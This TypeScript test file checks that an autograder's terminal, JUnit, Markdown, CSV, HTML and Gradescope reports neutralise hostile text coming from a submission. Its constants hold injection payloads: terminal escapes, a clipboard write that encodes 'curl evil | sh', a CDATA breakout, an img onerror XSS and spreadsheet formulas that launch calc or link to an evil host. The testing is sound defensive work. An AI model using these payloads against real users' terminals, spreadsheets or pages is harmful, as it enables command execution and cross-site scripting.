import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Writable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeClassReports } from "../../src/grader/class/class-report";
import { classProgress } from "../../src/grader/class/progress";
import type { StudentRecord } from "../../src/grader/class/student-record";
import { gradescopeReporter } from "../../src/grader/report/gradescope";
import { htmlReporter } from "../../src/grader/report/html";
import { junitReporter } from "../../src/grader/report/junit";
import { terminalReporter } from "../../src/grader/report/terminal";
import { toJsonReport, type GradeResult, type JsonReport } from "../../src/grader/result";
import { csvRows, gradeStandIn, writeSubmission } from "./support";

// Issue 24, output injection: text from the submission (a load error's message, here) and its
// folder's name reach every report. Raw, it cleared the terminal and wrote the clipboard (OSC 52),
// forged a score line, closed JUnit's CDATA to add a test case, broke XML with characters it
// forbids, put raw HTML and forged lines into summary.md and formulas into class.csv. HTML and
// Gradescope's JSON were already safe: kept under test.

const HOSTILE =
  "\x1b[2J\x1b[31mred\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\nScore: 200/200  (forged)\n- forged: line\n# Forged heading\n" +
  ']]></failure></testcase><testcase name="forged" classname="forged"/><![CDATA[ <img src=x onerror=alert(1)> \u0000\u0008\u0085\u009b31m\ufffe \u202e =HYPERLINK("http://evil") |a|b|';
const FOLDER = "=cmd|' -C calc'!A0 \x1b[2J<img src=x onerror=alert(1)>]]>\n- forged";

let work: string;
let result: GradeResult;
beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), "cc-injection-"));
  const dir = await writeSubmission({ [`${FOLDER}/index.js`]: `throw new Error(${JSON.stringify(HOSTILE)});\n` }, work);
  result = await gradeStandIn(join(dir, FOLDER));
}, 120_000);
afterAll(() => rm(work, { recursive: true, force: true }));

/** C0 and C1 controls (but the newline ending each line), DEL, and the bidi overrides. */
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe("untrusted text in every sink", () => {
  it("the grade carries the hostile text (or the test would prove nothing)", () => {
    expect(JSON.stringify(result)).toContain(JSON.stringify(HOSTILE).slice(1, 40));
  });

  it("terminal: no control characters, and no line the submission wrote", async () => {
    let text = "";
    const out = new Writable({ write: (chunk, _, done) => ((text += String(chunk)), done()) });
    const progress = Object.assign(new Writable({ write: (chunk, _, done) => ((text += String(chunk)), done()) }), { isTTY: false }) as unknown as NodeJS.WriteStream;
    const reporter = terminalReporter({ out, progress });
    reporter.onGradeStart?.({ submission: result.submission, seed: result.seed, numRuns: result.numRuns, properties: [], isolation: result.sandbox.isolation });
    await reporter.onGradeEnd?.(result);
    const bar = classProgress(progress, 1, 0);
    bar.begin(FOLDER);
    bar.end(record());
    expect(text).not.toMatch(CONTROL);
    const lines = text.split("\n");
    expect(lines.filter((line) => line.startsWith("Score:")).every((line) => line.startsWith(`Score: 0/3`))).toBe(true);
    expect(lines.some((line) => line.startsWith("- forged") || line.startsWith("# Forged"))).toBe(false);
  });

  it("JUnit: well-formed, no character XML forbids, no forged test case", async () => {
    const file = join(work, "junit.xml");
    await junitReporter(file).onGradeEnd?.(result);
    const xml = await readFile(file, "utf8");
    expect(xml).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]/);
    const outsideCdata = xml.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, "");
    expect(outsideCdata).not.toContain("<![CDATA[");
    expect(outsideCdata.match(/<testcase /g)?.length).toBe(result.properties.length);
    expect(outsideCdata).not.toMatch(/name="forged"/);
  });

  it("summary.md: no HTML outside code spans (where Markdown shows it as text), no forged line or heading", async () => {
    const files = await writeClassReports(await mkdtemp(join(work, "class-")), [record()], { seed: 7, numRuns: 5, version: "0" });
    const summary = await readFile(files.summary, "utf8");
    expect(summary).toContain("<img src=x");
    // A code span is a run of backticks and the next run of the same length (CommonMark).
    expect(summary.replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, "")).not.toMatch(/<|>/);
    expect(summary).not.toMatch(CONTROL);
    expect(summary.split("\n").some((line) => line.startsWith("- forged") || line.startsWith("# Forged"))).toBe(false);
  });

  it("class.csv: one line per student, no cell a spreadsheet would run as a formula", async () => {
    const files = await writeClassReports(await mkdtemp(join(work, "class-")), [record()], { seed: 7, numRuns: 5, version: "0" });
    const rows = csvRows(await readFile(files.csv, "utf8"));
    expect(rows).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]![0]).toContain("cmd|");
  });

  it("HTML: the text is escaped (no tag of the submission's)", async () => {
    const file = join(work, "report.html");
    await htmlReporter(file).onGradeEnd?.(result);
    const html = await readFile(file, "utf8");
    expect(html).not.toMatch(/<img src=x/i);
    expect(html).toMatch(/&lt;img src=x onerror=alert\(1\)&gt;/);
  });

  it("Gradescope: valid JSON whose strings hold the text as data", async () => {
    const file = join(work, "results.json");
    await gradescopeReporter(file).onGradeEnd?.(result);
    const parsed = JSON.parse(await readFile(file, "utf8")) as { score: number; output: string; tests: { name: string; output: string }[] };
    expect(parsed.score).toBe(0);
    expect(parsed.tests).toHaveLength(result.properties.length);
    expect(Object.keys(parsed).sort()).toEqual(["execution_time", "output", "score", "tests"]);
  });
});

function record(): StudentRecord {
  return { student: FOLDER, submission: result.submission, seed: 7, numRuns: 5, version: "0", status: "graded", report: toJsonReport(result) as unknown as JsonReport, error: null, durationMs: 1 };
}
